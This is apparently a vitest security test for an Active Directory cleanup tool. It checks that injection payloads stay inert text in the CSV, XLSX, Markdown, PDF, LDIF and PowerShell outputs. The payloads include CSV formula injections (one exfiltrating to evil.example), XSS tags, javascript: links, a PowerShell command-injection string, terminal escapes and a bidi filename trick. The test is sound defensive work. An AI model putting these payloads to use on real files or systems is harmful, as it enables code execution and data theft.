import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import MarkdownIt from 'markdown-it';
import { marked } from 'marked';
import { beforeAll, describe, expect, it } from 'vitest';
import { readCsvRecords } from '../../main/directory/csv-records.ts';
import { entryText } from '../../main/reports/ldif-writer.ts';
import { escapeDnValue } from '../../shared/dn.ts';
import { ensureDebianPackages } from '../../scripts/setup/debian-packages.ts';
import { tempDir } from '../temp-dirs.ts';
import { decodeAsPowerShell7, decodeAsWindowsPowerShell, decodeWindows1252, readRemediationScript } from './powershell-reader.ts';

/**
 * One set of hostile directory values, thrown at every file the workbench writes, as a person runs
 * it (the CLI, with every report and the remediation files). Each value sits in a displayName with
 * a trailing space, so it is flagged (displayname.character), suggested back trimmed, and so lands
 * in every output: findings, checklist examples, spreadsheets, the PDF, LDIF and PowerShell. The
 * same values name the objects (their CN) and the customer, and the export file has one in its name.
 */
const HOSTILE: Record<string, string> = {
  formulaEquals: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  formulaPlus: "+cmd|' /C calc'!A0",
  formulaMinus: '-2+3+cmd|\' /C calc\'!A0',
  formulaAt: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  formulaTab: '\t=1+1',
  formulaCr: '\r=1+1',
  html: '<img src=x onerror=alert(1)><script>alert(2)</script>',
  mdLink: '[click](javascript:alert(1)) ![i](http://evil.example/x.png)',
  autolinks: 'javascript:alert(1) www.evil.example ann@evil.example <http://evil.example>',
  mdMarkup: '**bold** _em_ `code` | cell ~~del~~ $x^2$',
  powershell: "José т'; Start-Process calc; 'x $(Start-Process calc) ‘‚’‛ \"$(calc)\" `n",
  terminal: '\u001b]0;pwned\u0007\u001b[31mred\u001b[0m',
  bidi: 'invoice\u202Egnp.exe',
  xlsxEscape: 'A_x0041_B',
  controls: 'a\u0000b\u0001c\u007fd',
};

const ROOT = new URL('../../', import.meta.url).pathname;
const work = tempDir('hostile');
const out = join(work, 'out');
const customer = `${HOSTILE.formulaEquals} ${HOSTILE.html} ${HOSTILE.powershell}`;
let cli: { status: number | null; stdout: string; stderr: string };

const USER = ['top', 'person', 'organizationalPerson', 'user'];
function exportWithHostileValues(): string {
  const entries = Object.entries(HOSTILE).map(([key, value], i) =>
    entryText(`CN=${escapeDnValue(`${key} ${value}`)},OU=Staff,DC=agency,DC=gov`, [
      ['objectClass', USER],
      ['sAMAccountName', `hostile${i}`],
      ['userPrincipalName', `hostile${i}@agency.gov`],
      ['displayName', `${value} `],
    ]),
  );
  const path = join(work, `=cmd|' calc'!A0 <img src=x> \u001b[31mexport.ldif`);
  writeFileSync(path, `version: 1\n\n${entries.join('')}`);
  return path;
}

/** What a reader of the file sees of a value: the trimmed displayName, as suggested. */
const suggested = (value: string): string => value.trim();

beforeAll(() => {
  ensureDebianPackages([{ command: '/usr/bin/pdftotext', package: 'poppler-utils' }]);
  const input = exportWithHostileValues();
  const r = spawnSync(process.execPath, ['main/cli.ts', '--input', input, '--out', out, '--report', 'pdf,xlsx,csv,md,json,ldif,ps1', '--accept-suggestions', '--customer', customer, '--quiet'], {
    cwd: ROOT,
    encoding: 'utf8',
  });
  cli = { status: r.status, stdout: r.stdout, stderr: r.stderr };
});

const file = (name: string): Buffer => readFileSync(join(out, name));

async function csvCells(name: string): Promise<string[][]> {
  const rows: string[][] = [];
  for await (const batch of readCsvRecords((async function* () {
    yield file(name);
  })(), name)) rows.push(...batch.map((r) => r.fields));
  return rows;
}

describe('hostile directory values stay data in every file the workbench writes', () => {
  it('the run completes, and nothing from the input reaches the terminal raw', () => {
    expect(cli.status, cli.stderr).toBe(0);
    expect(cli.stdout + cli.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f\u202e]/);
    expect(cli.stdout).toContain('\\x1b[31mexport.ldif');
  });

  it.each(['findings.csv', 'checklist.csv'])('%s: no cell starts a formula; each value is kept behind a leading quote', async (name) => {
    const cells = (await csvCells(name)).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    if (name === 'findings.csv') {
      for (const value of Object.values(HOSTILE)) {
        const shown = /^[=+\-@\t\r]/.test(suggested(value)) ? `'${suggested(value)}` : suggested(value);
        expect(cells, value).toContain(shown);
      }
    }
  });

  it('checklist.md: no input becomes HTML, a link or an image, in CommonMark with raw HTML allowed or in GitHub-flavoured Markdown', async () => {
    const md = file('checklist.md').toString('utf8');
    const renderings = [new MarkdownIt({ html: true, linkify: true }).render(md), await marked.parse(md, { gfm: true })];
    for (const html of renderings) {
      const tags = [...html.matchAll(/<[^>]*>/g)].map((m) => m[0]);
      expect(tags.filter((t) => !/^<\/?(table|thead|tbody|tr|th|td|br|h1|h2|p)\s*\/?>$/.test(t))).toEqual([]);
      expect(html).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u202e]/);
    }
    // The values are all there, as text.
    expect(renderings[0]).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(renderings[0]).toContain('javascript:alert(1)');
  });

  it('findings.xlsx and checklist.xlsx: text cells only, no formula, no link, every value readable', async () => {
    for (const name of ['findings.xlsx', 'checklist.xlsx']) {
      const zip = await JSZip.loadAsync(file(name));
      for (const part of Object.keys(zip.files).filter((p) => p.startsWith('xl/worksheets/'))) {
        const xml = await zip.file(part)!.async('string');
        expect(xml, `${name} ${part}`).not.toMatch(/<f[ >]|<hyperlink/);
        expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
      }
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(file(name) as unknown as ArrayBuffer);
      const texts: string[] = [];
      wb.eachSheet((ws) =>
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Number, ExcelJS.ValueType.Null]).toContain(cell.type);
            texts.push(String(cell.value));
          }),
        ),
      );
      if (name === 'findings.xlsx') {
        expect(texts).toContain(HOSTILE.formulaEquals);
        expect(texts).toContain('A_x005F_x0041_B');
        expect(texts).toContain('invoice[U+202E]gnp.exe');
        expect(texts).toContain('a\u2400b\u2401c\u2421d');
      }
    }
  });

  it('findings-report.pdf: text only (no link, action or script), with every hidden character made visible', () => {
    const raw = file('findings-report.pdf').toString('latin1');
    expect(raw).not.toMatch(/\/(URI|JavaScript|JS|Launch|SubmitForm|OpenAction|AA)\b/);
    const text = execFileSync('pdftotext', [join(out, 'findings-report.pdf'), '-'], { encoding: 'utf8' });
    expect(text).not.toMatch(/[\u0000-\u0008\u000b\u000e-\u001f\u007f\u202a-\u202e\u2066-\u2069]/);
    expect(text).toContain('invoice[U+202E]gnp.exe');
  });

  it('findings.json and checklist.json: valid JSON that carries each value exactly', () => {
    const findings = JSON.parse(file('findings.json').toString('utf8')) as { findings: { value: string | null; suggestedValue?: string }[] };
    for (const value of Object.values(HOSTILE)) {
      expect(findings.findings.some((f) => f.value === `${value} ` && f.suggestedValue === suggested(value)), value).toBe(true);
    }
    expect(() => JSON.parse(file('checklist.json').toString('utf8'))).not.toThrow();
  });

  it('remediation.ldif and its undo: every unsafe value and DN base64 (RFC 2849), each value exact', () => {
    for (const [name, expected] of [
      ['remediation.ldif', (v: string) => suggested(v)],
      ['remediation-undo.ldif', (v: string) => `${v} `],
    ] as const) {
      const logical = file(name).toString('utf8').replace(/\n /g, '').split('\n');
      const values: string[] = [];
      for (const line of logical) {
        if (line === '' || line.startsWith('#') || line === '-' || line === 'version: 1' || line === 'changetype: modify' || /^(add|delete|replace): [A-Za-z][A-Za-z0-9-]*$/.test(line)) continue;
        const b64 = /^([A-Za-z][A-Za-z0-9-]*):: ([A-Za-z0-9+/]*={0,2})$/.exec(line);
        if (b64) {
          values.push(Buffer.from(b64[2]!, 'base64').toString('utf8'));
          continue;
        }
        // RFC 2849 SAFE-STRING: no NUL, CR or LF; not starting with space, colon or "<"; ASCII only; no trailing space.
        const plain = /^([A-Za-z][A-Za-z0-9-]*): ([\x01-\x09\x0b\x0c\x0e-\x1f\x21-\x39\x3b\x3d-\x7f][\x01-\x09\x0b\x0c\x0e-\x7f]*)?$/.exec(line);
        expect(plain, `${name}: ${JSON.stringify(line)}`).not.toBeNull();
        expect(line).not.toMatch(/ $/);
        values.push(plain![2] ?? '');
      }
      for (const value of Object.values(HOSTILE)) expect(values, `${name}: ${JSON.stringify(value)}`).toContain(expected(value));
      // The DN of the object whose CN holds NUL and other controls is written with RFC 4514 escapes.
      expect(values.some((v) => v.startsWith('CN=controls a\\00b\\01c\\7Fd,'))).toBe(true);
    }
  });

  it.each([
    ['Windows PowerShell 5.1 (its ANSI code page, Windows-1252, unless a BOM says UTF-8)', decodeAsWindowsPowerShell],
    ['Windows PowerShell 5.1 ignoring the BOM (the worst case: Windows-1252 throughout)', (b: Uint8Array) => decodeWindows1252(b.subarray(3))],
    ['PowerShell 7 (UTF-8)', decodeAsPowerShell7],
  ])('remediation.ps1 read by %s holds no code but its Set-ADObject calls, and each value exactly', (_host, decode) => {
    const bytes = file('remediation.ps1');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect([...bytes.subarray(3)].every((b) => b < 0x80)).toBe(true);
    const calls = readRemediationScript(decode(bytes));
    const displayNames = calls.map((c) => c.replace.displayName);
    for (const value of Object.values(HOSTILE)) expect(displayNames, value).toContain(suggested(value));
    expect(calls.map((c) => c.identity)).toContain(`CN=powershell ${escapeDnValue(HOSTILE.powershell!)},OU=Staff,DC=agency,DC=gov`);
  });

  it("the reader itself catches the attack on a script written without the BOM and code-point quoting (the review's finding)", () => {
    const naive = `'${`José т'; Start-Process calc; '`.replace(/['\u2018\u2019\u201A\u201B]/g, (q) => q + q)}'`;
    const script = readFileSync(join(out, 'remediation.ps1'), 'utf8').replace(/^\ufeff/, '').split('\r\n');
    const at = script.findIndex((l) => l.startsWith('Set-ADObject'));
    script[at] = `Set-ADObject -Identity ${naive} -Replace @{ 'displayName' = 'x' } @common`;
    const bytes = Buffer.from(script.join('\r\n'), 'utf8');
    expect(() => readRemediationScript(decodeAsPowerShell7(bytes))).not.toThrow();
    expect(() => readRemediationScript(decodeWindows1252(bytes))).toThrow(/expected/);
  });
});
